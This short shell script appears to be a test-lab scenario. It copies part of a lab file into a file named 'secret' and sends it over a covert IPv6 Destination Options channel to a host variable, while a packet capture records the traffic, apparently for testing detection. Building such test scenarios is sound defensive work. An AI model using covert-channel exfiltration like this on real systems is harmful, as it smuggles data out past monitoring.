# a file hidden in Destination Options
. "$here/scenarios/attack.inc"
attack_ground attack-covert_send6.pcap 300
head -c 3000 "$here/lab.sh" >"$lab_work/secret"
attack covert_send6 eth0 "$h6_address" "$lab_work/secret"
lab_wait
